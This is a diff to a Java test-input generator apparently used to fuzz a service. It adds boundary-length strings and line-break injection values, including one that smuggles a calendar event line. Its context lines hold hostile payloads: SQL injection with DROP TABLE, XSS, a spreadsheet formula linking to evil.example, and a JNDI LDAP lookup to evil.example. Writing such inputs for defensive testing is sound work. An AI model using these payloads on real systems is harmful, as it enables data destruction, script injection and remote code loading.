@@ -125,11 +125,24 @@ final class Hostile {
         values.add(max != null
                 ? new Named<>("str:maxLength+1", "x".repeat(max + 1))
                 : new Named<>("str:" + length / 1000 + "k", "x".repeat(length)));
+        if (max != null) {
+            // The longest valid values: whatever the service derives from them must still fit where it is stored.
+            values.add(new Named<>("str:maxLength", "x".repeat(max)));
+            values.add(new Named<>("str:maxLength-umlauts", "ë".repeat(max)));
+        }
+        Integer min = schema == null ? null : schema.getMinLength();
+        if (min != null && min > 1) {
+            values.add(new Named<>("str:minLength-1", "x".repeat(min - 1)));
+            values.add(new Named<>("str:minLength", "x".repeat(min)));
+        }
         values.add(new Named<>("str:unicode", "Zoë Ünïcødé 😀 北京 مرحبا \u202Eevil"));
         values.add(new Named<>("str:sql", "x' OR '1'='1'; DROP TABLE placement; --"));
         values.add(new Named<>("str:html", "<script>alert(1)</script><img src=x onerror=alert(1)>"));
         values.add(new Named<>("str:nul", "abc\u0000def"));
         values.add(new Named<>("str:control", "\u0001\u0007\u001b[31m\r\n\t\u007f"));
+        values.add(new Named<>("str:lone-cr", "Evening\rBEGIN:VEVENT"));
+        values.add(new Named<>("str:next-line", "Evening\u0085x"));
+        values.add(new Named<>("str:line-separator", "Evening\u2028x\u2029y"));
         values.add(new Named<>("str:lone-surrogate", "abc\uD800def"));
         values.add(new Named<>("str:formula", "=HYPERLINK(\"http://evil.example\",\"x\")"));
         values.add(new Named<>("str:jndi", "${jndi:ldap://evil.example/a}"));
